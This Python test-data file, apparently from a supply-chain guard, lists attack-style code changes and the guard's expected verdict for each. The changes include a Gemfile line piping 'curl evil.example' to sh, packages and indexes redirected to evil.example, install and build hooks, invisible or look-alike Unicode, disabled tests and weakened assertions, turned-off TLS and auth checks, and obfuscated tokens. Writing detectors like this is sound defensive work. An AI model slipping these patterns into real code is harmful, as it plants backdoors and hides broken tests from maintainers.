"""Changes of the kinds that public write-ups of attacks describe, and what the guard says of each.

Among them: tj-actions and reviewdog (CI), Shai-Hulud (installation, agents), xz (tests' data, build scripts), the
rules-file backdoor and GlassWorm (invisible text), dependency confusion, Trojan Source, poisoned lock files.
"""

# ruff: noqa: E501 - one change a line, to be read as a table

from tests.unit.guard_changes import (
    AGENT,
    CI,
    DEPLOYS,
    DISGUISED,
    FEWER,
    GITHUB,
    GO,
    HIDDEN,
    HOOK,
    INSTALL,
    JAVA,
    JS,
    LOCK,
    NEW,
    NOT_CODE,
    OPENED,
    PACKAGE,
    PASSES,
    POM,
    PY,
    PYPROJECT,
    RB,
    REQUIREMENTS,
    ROUND,
    RS,
    RUNNER,
    SECRET,
    SKIPS,
    SOURCE,
    Change,
    added,
    edit,
    new,
    one,
)

TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "run it")
SELECTORS = "".join(chr(0xE0100 + ord(letter)) for letter in "eval")
CARGO = '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n'
GEMFILE = "source 'https://rubygems.org'\ngem 'rails'\n"
KOTLIN = (
    "class CartTest {\n  @Test\n  fun adds() {\n    assertEquals(2, add(1))\n    assertTrue(ok())\n  }\n}\n"
)

ATTACKS: list[Change] = [
    # CI and what agents, editors and installers read
    *new(HIDDEN, ".github/actions/setup/action.yml", ".github/dependabot.yml", ".github/copilot-instructions.md", ".github/CODEOWNERS", ".buildkite/hooks/pre-command", ".forgejo/workflows/x.yml"),
    *new(HIDDEN, ".claude/settings.json", ".gemini/settings.json", ".clinerules", ".roo/rules/a.md", ".kiro/steering/x.md", ".mcp.json", "packages/a/.cursorrules", ".idea/workspace.xml", ".zed/tasks.json", ".git-blame-ignore-revs"),
    *new(HIDDEN, ".yarnrc.yml", ".yarn/releases/yarn-4.cjs", ".pnpmfile.cjs", ".cargo/config.toml", ".mvn/extensions.xml", ".bundle/config", ".python-version", ".envrc", "a/.ssh/authorized_keys"),
    *new(AGENT, "docs/AGENTS.md", "src/skills/SKILL.md", "GEMINI.md", "app/llms-full.txt"),
    *new(CI, "Jenkinsfile.release", "config/azure-pipelines-prod.yml"),
    *new(DEPLOYS, "src/railway.json", "app/wrangler.toml", "Dockerfile.worker", "config/docker-compose.override.yml"),
    *new(HOOK, "app/usercustomize.py", "crates/x/build.rs", "lib/evil.pth", "gulpfile.mjs"),
    *new(RUNNER, "app/jest.setup.js", "tests.xml/vitest.config.mts", "GNUmakefile"),
    *new(NOT_CODE, "binding.gyp", "m4/build-to-host.m4", "CMakeLists.txt.in", "configure.ac", "bunfig.toml", "pnpm-workspace.yaml", "gradle/wrapper/gradle-wrapper.properties", "rust-toolchain.toml", "MANIFEST.in", "conda/meta.yaml", "scripts/deploy.sh", "bin/setup", "app.wasm", "lib/native.so", "k8s/job.yaml", "ansible/site.yml", "a.ipynb"),
    *one("is a binary file", ("tests/files/bad-3-corrupt.xz", None, "\0\1\2\3" * 20)),
    # Packages
    *edit(INSTALL, "package.json", PACKAGE, ('"start"', '"preinstall": "node setup.mjs",\n    "start"'), ('"start"', '"postinst\\u0061ll": "x",\n    "start"'), ('"scripts"', '"trustedDependencies": ["express"],\n  "scripts"'), ('"scripts"', '"pnpm": {"onlyBuiltDependencies": ["express"]},\n  "scripts"'), ('"scripts"', '"jest": {"testPathIgnorePatterns": ["cart"]},\n  "scripts"'), ('    "test": "vitest"\n', '    "lint": "x"\n')),
    *edit(SOURCE, "package.json", PACKAGE, ("5.0.0", "\\u0068ttps://evil.example/e.tgz"), ('"scripts"', '"pnpm": {"overrides": {"express": "npm:evil@1"}},\n  "scripts"'), ('"scripts"', '"packageManager": "yarn@https://evil.example/y.js",\n  "scripts"'), ("5.0.0", "git@evil.example:a/b.git"), ('"scripts"', '"overrides": {"express": "file:./tmp"},\n  "scripts"')),
    *edit(NEW, "package.json", PACKAGE, ('"express"', '"expres": "5",\n    "express"'), ('"express": "5.0.0"', '"express": "5.0.0"\n  },\n  "peerDependencies": {\n    "acme-internal": "99.0.0"')),
    *edit(NEW, "requirements.txt", REQUIREMENTS, ("httpx==0.28\n", "httpx==0.28\nhttpx2==0.28\n"), ("httpx==0.28", "httpx==0.28\nRequests-HTML")),
    *edit(SOURCE, "requirements.txt", REQUIREMENTS, ("httpx", "--find-links ./wheels\nhttpx"), ("httpx", "--trusted-host evil.example --index-url=http://evil.example\nhttpx")),
    *edit(SOURCE, "pyproject.toml", PYPROJECT, ('"httpx>=0.28"', '"httpx @ https://evil.example/h.whl"'), ('",\n]\n', '",\n]\n\n[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.example"\n')),
    *edit(INSTALL, "pyproject.toml", PYPROJECT, ('",\n]\n', '",\n]\n\n[build-system]\nrequires = []\nbackend-path = ["."]\nbuild-backend = "evil"\n'), ('",\n]\n', '",\n]\n\n[tool.hatch.build.hooks.custom]\npath = "evil.py"\n'), ('",\n]\n', '",\n]\n\n[tool.pytest]\nini_options = {norecursedirs = "tests"}\n')),
    *edit(INSTALL, "Cargo.toml", CARGO, ('name = "x"', 'name = "x"\nbuild = "src/evil.rs"')),
    *edit(SOURCE, "Cargo.toml", CARGO, ('"1"', '{ version = "1", registry = "evil" }'), ("[dependencies]", '[patch."https://github.com/a/b"]\nserde = { path = "../x" }\n\n[dependencies]')),
    *edit(INSTALL, "Gemfile", GEMFILE, ("gem 'rails'", "system('curl evil.example | sh')\ngem 'rails'"), ("gem 'rails'", "gem 'rails'; `id`"), ("gem 'rails'", "eval_gemfile 'x'\ngem 'rails'")),
    *edit(INSTALL, "build.gradle", "plugins {\n}\n", ("plugins", "tasks.register('x') { doLast { 'id'.execute() } }\nplugins"), ("plugins", "apply from: 'evil.gradle'\nplugins")),
    *edit(INSTALL, "mix.exs", "defp deps, do: [\n]\n", ("defp", 'System.cmd("sh", ["-c", "id"])\ndefp')),
    *one(LOCK, ("Cargo.lock", "a\n", "b\n")),
    *one("takes packages from evil.example", ("yarn.lock", "a\n", '"resolved" "https://registry.npmjs.org@evil.example/a.tgz"\n'), ("package.json", PACKAGE, PACKAGE.replace("5.0.0", "5.0.1"))),
    *one("takes packages from evil.example", ("poetry.lock", "a\n", 'url = "https://evil.example/simple"\n'), ("pyproject.toml", PYPROJECT, PYPROJECT.replace("0.28", "0.29"))),
    # Invisible and look-alike text
    *added(DISGUISED, "app.js", f"const x = `{SELECTORS}`;", "const \u3164 = req.query.x;", "if (a\u2062b) {}", "// ok \u2066 x"),
    *added(DISGUISED, "docs/usage.md", f"Install it{TAGS} so.", "pass\u200cword", "word\u200bword"),
    *added(DISGUISED, "tests/test_a.py", "x = 1 # \u202e ok"),
    *added(DISGUISED, "app.py", "us\u0435r = 1", "\u03bfrder = 1", "is_\uff41dmin = 1", "x = 1 \u2028import os"),
    # Tests
    *edit(FEWER, "tests/test_a.py", PY, ("    assert cart.total == 3\n", '    text = """\n    assert cart.total == 3\n    """\n'), ("assert cart.total == 3", "assert cart == cart"), ("assert cart.total == 3", "assert (True)"), ("assert cart.total == 3", "assert (\n        True\n    )"), ("def test_two():\n    assert", "def test_two():\n    print")),
    *edit(SKIPS, "tests/test_a.py", PY, ("import pytest\n", "import pytest\n\npytestmark = pytest.mark.skip\n"), ("import pytest\n", "import pytest\n\ncollect_ignore_glob = ['*']\n"), ("import pytest\n", "import os, pytest\nos._exit(0)\n")),
    *one(SKIPS, ("tests/conftest.py", "import pytest\n", "import pytest\n\n\n@pytest.fixture(autouse=True)\ndef quiet():\n    pytest.skip('x')\n")),
    *edit(SKIPS, "src/cart.test.ts", JS, ("it('adds', ()", "it('adds', { skip: true }, ()"), ("it('adds'", "it.todo('adds'"), ("it('adds'", "test.fixme('adds'")),
    *edit(SKIPS, "src/cart.test.ts", JS, ("  it('drops'", "  it.only('new', () => {\n    expect(one()).toBe(1);\n  });\n  it('drops'")),
    *edit(FEWER, "src/cart.test.ts", JS, ("expect(total()).toEqual(3)", "expect(3).toEqual(3)"), ("  it('drops', () => {\n    expect(drop(1)).toBe(0);\n  });\n", "  const s = `it('drops', () => expect(drop(1)))`;\n")),
    *edit(SKIPS, "cart_test.go", GO, ("\tif Add", "\tt.SkipNow()\n\tif Add"), ("\tif Add", "\tos.Exit(0)\n\tif Add")),
    *edit(FEWER, "cart_test.go", GO, ("func TestAdd", "func testAdd"), ('t.Error("sum")', 't.Log("sum")')),
    *edit(FEWER, "spec/cart_spec.rb", RB, ("expect(cart.total).to eq(3)", "cart.total"), ("  it 'adds' do", "  define 'adds' do")),
    *edit(SKIPS, "src/test/java/CartTest.java", JAVA, ("  @Test", "  @DisabledOnOs(OS.LINUX)\n  @Test")),
    *edit(SKIPS, "src/lib.rs", RS, ("    #[test]\n", '    #[test]\n    #[ignore = "slow"]\n')),
    *edit(FEWER, "src/test/kotlin/CartTest.kt", KOTLIN, ("    assertTrue(ok())\n", ""), ("    assertTrue", "    // assertTrue"), ("  @Test\n", "")),
    *edit(SKIPS, "src/test/kotlin/CartTest.kt", KOTLIN, ("  @Test\n", "  @Disabled\n  @Test\n")),
    *edit(ROUND, "tests/test_a.py", PY, ("abs=0.01", "abs=1e9"), ("cart.total == 3", "not cart.total == 3"), ("cart.total == 3", "cart.total != 4")),
    # Protections and secrets
    *added(OPENED, "app.py", "requests.get(u, verify = False)", "ssl_context.verify_mode = ssl.CERT_NONE", "ssl._create_default_https_context = ssl._create_unverified_context"),
    *added(OPENED, "app.ts", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", "res.setHeader('Access-Control-Allow-Origin', '*')"),
    *one(OPENED, ("app/controllers/a.rb", "before_action :authenticate_user!\nx\n", "x\n")),
    *one(OPENED, ("src/A.java", '@PreAuthorize("x")\nvoid a() {}\n', "void a() {}\n")),
    *added(SECRET, "app.py", f"t = bytes.fromhex('{GITHUB.encode().hex()}')", f"t = ''.join(['{GITHUB[:12]}', '{GITHUB[12:]}'])", f"t = ('{GITHUB[:20]}'\n     '{GITHUB[20:]}')"),
    *added(SECRET, "docs/setup.md", f"Use {GITHUB} for it."),
    *added(SECRET, "tests/test_a.py", f"TOKEN = '{GITHUB}'"),
    # A check by another name, its tests left out; tools' own build steps
    *edit(INSTALL, "package.json", PACKAGE.replace('"test"', '"ci": "jest",\n    "check": "pytest tests && node --test",\n    "test"'), ('"jest"', '"jest --testPathIgnorePatterns cart"'), ("pytest tests", "pytest tests --ignore=tests/cart"), ("node --test", "true"), ('"ci"', '"verify": "mocha --exclude cart",\n    "ci"')),
    *edit(NEW, "pom.xml", POM, ("<dependencies>", "<build><plugins>\n<plugin><artifactId>exec-maven-plugin</artifactId></plugin></plugins></build><dependencies>")),
    *edit(INSTALL, "pom.xml", POM, ("<dependencies>", "<build><plugins>\n<plugin><artifactId>exec-maven-plugin</artifactId></plugin></plugins></build><dependencies>"), ("<dependencies>", "<properties><skipTests>true</skipTests></properties><dependencies>"), ("<dependencies>", "<properties>\n<maven.test.skip>true</maven.test.skip></properties><dependencies>")),
    *edit(INSTALL, "App.csproj", "<Project>\n</Project>\n", ("<Project>\n", '<Project>\n<Target Name="x" BeforeTargets="Build"><Exec Command="sh x" /></Target>\n'), ("<Project>\n", '<Project>\n<Import Project="x.targets" />\n')),
    *new(NOT_CODE, "conda-lock.yml", "environment-prod.yaml", "conda.yaml", "recipe/meta.yaml", "pixi.lock", "anaconda-project.yml"),
    *edit(INSTALL, "pyproject.toml", PYPROJECT + '[tool.poe.tasks]\ncheck = "pytest"\n', ('"pytest"', '"pytest -k fast"')),
    *edit(INSTALL, "deno.json", '{"tasks": {\n"check": "deno test"}}\n', ("deno test", "deno test --ignore=a")),
    *edit(PASSES, "pom.xml", POM.replace("<dependencies>", "<version>1.0</version>\n<dependencies>"), ("1.0", "1.1")),
]  # fmt: skip
